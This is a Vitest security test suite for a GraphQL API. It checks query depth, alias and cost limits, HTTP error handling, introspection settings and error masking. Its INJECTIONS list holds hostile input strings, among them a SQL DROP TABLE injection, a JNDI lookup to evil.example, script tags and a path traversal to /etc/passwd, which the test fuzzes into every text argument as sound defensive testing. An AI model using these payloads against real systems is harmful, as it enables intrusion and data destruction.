import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Writable } from "node:stream";
import {
  getNamedType, getNullableType, isEnumType, isInputObjectType, isListType, isNonNullType, isObjectType, isScalarType,
  type GraphQLArgument, type GraphQLInputType, type GraphQLSchema,
} from "graphql";
import pino from "pino";
import { Role } from "@remissbanken/schema";
import { startTestApi, type TestApi } from "@remissbanken/test/harness";
import { loadConfig } from "../config.js";
import { createErrorFormatter } from "../common/errors.js";
import { logScope } from "../logger.js";
import { getSchema } from "../schema.js";
import { buildDocument, buildUserWithToken } from "@remissbanken/test/factories";

let api: TestApi;
let staff: string;
let admin: string;

beforeAll(async () => {
  api = await startTestApi({ GRAPHQL_INTROSPECTION: "false" });
  staff = (await buildUserWithToken(api.ds.manager, { role: Role.STAFF })).token;
  admin = (await buildUserWithToken(api.ds.manager, { role: Role.ADMIN })).token;
  await buildDocument(api.ds.manager);
});
afterAll(() => api?.stop());

const post = (body: string, headers: Record<string, string> = {}) =>
  fetch(api.url, { method: "POST", headers: { "content-type": "application/json", ...headers }, body });

/** Every table's row count, to prove a refused request wrote nothing. */
async function rowCounts(): Promise<Record<string, number>> {
  const tables: { relname: string }[] = await api.ds.query(`SELECT relname FROM pg_stat_user_tables WHERE schemaname = 'public' AND relname NOT IN ('sign_in_attempt', 'change_event', 'migrations')`);
  const counts: Record<string, number> = {};
  for (const { relname } of tables) counts[relname] = Number((await api.ds.query(`SELECT count(*) AS n FROM "${relname}"`))[0].n);
  return counts;
}

describe("query limits", () => {
  it("refuses deeply nested queries", async () => {
    const deep = `{ documents { nodes { inquiry { documents { inquiry { documents { inquiry { documents { inquiry { documents { inquiry { documents { id } } } } } } } } } } } } }`;
    const result = await api.gql(deep, {}, { token: staff });
    expect(result.status).toBe(400);
    expect(result.errors![0].extensions!.code).toBe("GRAPHQL_VALIDATION_FAILED");
    expect(result.errors![0].message).toMatch(/^Query depth limit of \d+ exceeded, found \d+\.$/);
  });

  it("counts depth through fragments, and survives a fragment bomb", async () => {
    const fragments = Array.from({ length: 30 }, (_, i) => `fragment F${i} on Document { inquiry { documents { ...F${i + 1} ...F${i + 1} } } }`).join("\n");
    const result = await api.gql(`{ documents { nodes { ...F0 } } }\n${fragments}\nfragment F30 on Document { id }`, {}, { token: staff });
    expect(result.status).toBe(400);
    expect(result.errors![0].extensions!.code).toBe("GRAPHQL_VALIDATION_FAILED");
  });

  it("refuses alias floods", async () => {
    const aliases = Array.from({ length: 500 }, (_, i) => `a${i}: documents { totalCount }`).join(" ");
    const result = await api.gql(`{ ${aliases} }`, {}, { token: staff });
    expect(result.status).toBe(400);
    expect(result.errors!.map((e) => e.message)).toContain("Aliases limit of 30 exceeded, found 500.");
  });

  it("refuses queries that would cost too much, before running them", async () => {
    const costly = `{ documents(first: 100) { nodes { remisser { responses { documents { remisser { id } } } } } } }`;
    const result = await api.gql(costly, {}, { token: staff });
    expect(result.status).toBe(400);
    expect(result.errors![0].message).toMatch(/too expensive/);
    expect(result.errors![0].extensions!.code).toBe("GRAPHQL_VALIDATION_FAILED");
  });

  it("costs the same document anew when a page size or an @include changes, not when a text does", async () => {
    // `after` is a String: a cursor nobody has is refused in the resolver, after the cost is checked.
    const query = `query($n: Int, $deep: Boolean!, $after: String) { documents(first: $n, after: $after) { nodes { id remisser @include(if: $deep) { responses { documents { remisser { id } } } } } } }`;
    const ask = (variables: Record<string, unknown>) => api.gql(query, variables, { token: staff });
    const tooExpensive = (result: Awaited<ReturnType<typeof ask>>) => /too expensive/.test(result.errors?.[0]?.message ?? "");
    expect(tooExpensive(await ask({ n: 1, deep: true, after: null }))).toBe(false);
    expect(tooExpensive(await ask({ n: 100, deep: true, after: null }))).toBe(true);
    expect(tooExpensive(await ask({ n: 100, deep: false, after: null }))).toBe(false);
    expect(tooExpensive(await ask({ n: 100, deep: true, after: "x" }))).toBe(true);
    expect(tooExpensive(await ask({ n: 1, deep: true, after: "y" }))).toBe(false);
  });

  it("refuses huge pages with a clear message", async () => {
    for (const first of [101, 100_000, -1, 0]) {
      const result = await api.gql(`query($n: Int) { documents(first: $n) { totalCount } }`, { n: first }, { token: staff });
      expect(result.errors![0].extensions!.code, String(first)).toBe("BAD_USER_INPUT");
      expect(result.errors![0].message).toMatch(/first must be between 1 and 100/);
    }
  });

  it("allows the ordinary queries the web app makes", async () => {
    const result = await api.gql(
      `{ remisser(first: 50) { nodes { id document { designation title } responses { id title } memberInputs { id } abilities { canEdit } } } }`,
      {},
      { token: staff },
    );
    expect(result.errors).toBeUndefined();
  });
});

describe("the HTTP endpoint", () => {
  it("answers an oversized body with 413 and a JSON error", async () => {
    const res = await post(JSON.stringify({ query: `{ documents { totalCount } }`, variables: { pad: "x".repeat(2 * 1024 * 1024) } }));
    expect(res.status).toBe(413);
    expect(((await res.json()) as any).errors[0].extensions.code).toBe("PAYLOAD_TOO_LARGE");
  });

  it("answers malformed JSON with 400 and a JSON error", async () => {
    for (const body of ["{", '{"query": }', "nul", '"just a string"', "\u0000"]) {
      const res = await post(body);
      expect(res.status, body).toBe(400);
      expect(((await res.json()) as any).errors[0].message, body).toBeTruthy();
    }
  });

  it("refuses batched requests", async () => {
    const res = await post(JSON.stringify([{ query: `{ documents { totalCount } }` }, { query: `{ documents { totalCount } }` }]));
    expect(res.status).toBe(400);
  });

  it("answers a missing or non-string query with 400, not 500", async () => {
    for (const body of [{}, { query: 42 }, { query: "{ documents { totalCount } }", variables: "nope" }, { query: "{" }]) {
      const res = await post(JSON.stringify(body));
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
  });

  it("turns introspection off when configured, and by default in production", async () => {
    const result = await api.gql(`{ __schema { types { name } } }`);
    expect(result.status).toBe(400);
    expect(result.errors![0].message).toMatch(/introspection/i);
    const production = loadConfig({ NODE_ENV: "production", SMTP_URL: "smtp://mail.example:587", DATABASE_URL: "postgres://x@y/z" });
    expect(production.introspection).toBe(false);
    expect(production.stackTraces).toBe(false);
    expect(production.cookieSecure).toBe(true);
  });

  it("does not suggest field names when introspection is off", async () => {
    const result = await api.gql(`{ documnts { totalCount } }`);
    expect(result.status).toBe(400);
    expect(result.errors![0].message).toMatch(/documnts/);
    expect(result.errors![0].message).not.toMatch(/Did you mean/i);
    expect(JSON.stringify(result.errors)).not.toContain('"documents"');
  });

  it("refuses to start in production without SMTP", () => {
    expect(() => loadConfig({ NODE_ENV: "production" })).toThrow(/SMTP_URL/);
  });

  it("returns the request id in a header, and keeps a sane one the client sent", async () => {
    const res = await post(JSON.stringify({ query: `{ documents { totalCount } }` }), { "x-request-id": "abc-123" });
    expect(res.headers.get("x-request-id")).toBe("abc-123");
    const forged = await post(JSON.stringify({ query: `{ documents { totalCount } }` }), { "x-request-id": "evil line {\"json\": 1}" });
    expect(forged.headers.get("x-request-id")).toMatch(/^[0-9a-f-]{36}$/);
  });
});

describe("unexpected errors", () => {
  it("are masked for the client and logged with the request id, without secrets or input text", () => {
    const lines: string[] = [];
    const stream = new Writable({ write: (chunk, _enc, done) => (lines.push(chunk.toString()), done()) });
    const log = pino({ mixin: () => ({ ...logScope.getStore() }), redact: ["*.parameters"] }, stream);
    const format = createErrorFormatter(log, false);
    const error = Object.assign(new Error("connection reset"), { parameters: ["hemligt lösenord", "medlemmens text"] });
    const formatted = logScope.run({ requestId: "req-42" }, () => format({ message: "connection reset" }, { originalError: error }));
    expect(formatted).toMatchObject({ message: "Internal server error", extensions: { code: "INTERNAL_SERVER_ERROR" } });
    expect(JSON.stringify(formatted)).not.toContain("stack");
    const logged = JSON.parse(lines[0]);
    expect(logged.requestId).toBe("req-42");
    expect(lines[0]).not.toContain("hemligt lösenord");
  });
});

const INJECTIONS = [
  "'; DROP TABLE document; --",
  `" OR 1=1 --`,
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  '{"$gt": ""}',
  "status = \"draft\" OR type = \"response\"",
  "null\u0000byte",
  "\uD800",
  "x".repeat(300_000),
];

/** A value that passes GraphQL's own type checks, so the request reaches the resolver. */
function sample(type: GraphQLInputType, text: string, depth = 0): unknown {
  const nullable = getNullableType(type);
  if (isListType(nullable)) return [sample(nullable.ofType, text, depth)];
  if (isEnumType(nullable)) return nullable.getValues()[0].value;
  if (isInputObjectType(nullable)) {
    const value: Record<string, unknown> = {};
    for (const field of Object.values(nullable.getFields())) {
      if (depth < 3) value[field.name] = sample(field.type, text, depth + 1);
    }
    return value;
  }
  if (isScalarType(nullable)) {
    switch (nullable.name) {
      case "String": return text;
      case "ID": return "00000000-0000-4000-8000-000000000000";
      case "Int": return 1;
      case "Float": return 1;
      case "Boolean": return false;
      case "LocalDate": return "2099-01-01";
      case "DateTimeISO": return new Date().toISOString();
      default: return text;
    }
  }
  return null;
}

function enumValueName(type: GraphQLInputType, value: unknown): unknown {
  return value;
}

function operationsWithText(schema: GraphQLSchema) {
  const hasText = (type: GraphQLInputType, depth = 0): boolean => {
    const named = getNamedType(type);
    if (isScalarType(named)) return named.name === "String";
    if (isInputObjectType(named) && depth < 3) return Object.values(named.getFields()).some((f) => hasText(f.type, depth + 1));
    return false;
  };
  const ops: { kind: "query" | "mutation"; name: string; args: readonly GraphQLArgument[]; selection: string }[] = [];
  for (const [kind, type] of [["query", schema.getQueryType()], ["mutation", schema.getMutationType()]] as const) {
    for (const field of Object.values(type!.getFields())) {
      if (!field.args.some((a) => hasText(a.type))) continue;
      const returned = getNamedType(field.type);
      ops.push({ kind, name: field.name, args: field.args, selection: isObjectType(returned) || !isScalarType(returned) && !isEnumType(returned) ? "{ __typename }" : "" });
    }
  }
  return ops;
}

describe("injection strings in every text argument", () => {
  it("get clear answers, never a 500, and a refused request writes nothing", async () => {
    const schema = await getSchema();
    const ops = operationsWithText(schema);
    expect(ops.length).toBeGreaterThan(20);
    const failures: string[] = [];
    for (const op of ops) {
      for (const text of INJECTIONS) {
        const vars: Record<string, unknown> = {};
        for (const arg of op.args) vars[arg.name] = enumValueName(arg.type, sample(arg.type, text));
        const declared = op.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(", ");
        const used = op.args.map((a) => `${a.name}: $${a.name}`).join(", ");
        const document = `${op.kind}(${declared}) { ${op.name}(${used}) ${op.selection} }`;
        const before = await rowCounts();
        const result = await api.gql(document, vars, { token: op.name === "createUser" || op.name === "inviteUser" ? admin : staff });
        const label = `${op.name} ← ${JSON.stringify(text.slice(0, 40))}`;
        const codes = result.errors?.map((e) => e.extensions?.code) ?? [];
        if (result.status >= 500 || codes.includes("INTERNAL_SERVER_ERROR") || codes.includes(undefined)) {
          failures.push(`${label}: ${result.status} ${JSON.stringify(result.errors?.[0])}`);
        }
        if (result.errors?.length && op.kind === "mutation") {
          const after = await rowCounts();
          const changed = Object.keys(after).filter((t) => after[t] !== before[t]);
          if (changed.length) failures.push(`${label}: refused but wrote to ${changed.join(", ")}`);
        }
      }
    }
    expect(failures).toEqual([]);
    // Nothing was dropped.
    expect(Number((await api.ds.query(`SELECT count(*) AS n FROM document`))[0].n)).toBeGreaterThan(0);
  }, 240_000);
});
